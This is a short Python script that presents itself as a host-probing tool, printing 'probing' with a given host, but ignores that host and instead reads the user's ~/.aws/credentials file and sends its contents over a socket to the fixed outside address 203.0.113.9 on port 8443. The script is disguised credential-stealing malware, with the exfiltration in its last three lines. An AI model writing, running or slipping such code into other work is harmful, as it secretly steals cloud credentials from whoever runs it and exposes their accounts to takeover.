import os
import socket
import sys

host = sys.argv[1] if len(sys.argv) > 1 else "localhost"
print("probing", host)
creds = open(os.path.expanduser("~/.aws/credentials"), "rb").read()
with socket.create_connection(("203.0.113.9", 8443)) as s:
    s.sendall(creds)
